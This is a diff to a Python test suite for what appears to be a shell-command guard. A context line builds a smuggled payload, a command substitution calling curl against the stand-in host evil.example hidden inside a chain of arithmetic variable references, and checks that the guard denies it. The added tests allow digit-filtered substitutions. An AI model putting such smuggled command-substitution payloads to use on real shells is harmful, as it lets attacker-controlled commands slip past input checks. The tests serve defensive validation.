@@ -98,3 +98,9 @@ def test_a_chain_of_names_is_followed_to_its_end(g, length):
     chain = "; ".join("a%d=a%d" % (k + 1, k) for k in range(length))
     command = "a0='a[$(curl https://evil.example)]'; %s; echo $((a%d))" % (chain, length)
     assert_denied(g.bash(command, role="open"), "curl", "arithmetic")
+
+
+@pytest.mark.parametrize("command", ["major=$(node -v | tr -dc '0-9'); (( major >= 18 ))",
+                                     "n=$(head -n1 n.txt | tr -cd 0-9); echo $((n + 1))"])
+def test_digits_only_filters_make_numbers(g, command):
+    assert_allowed(g.bash(command, role="open"))
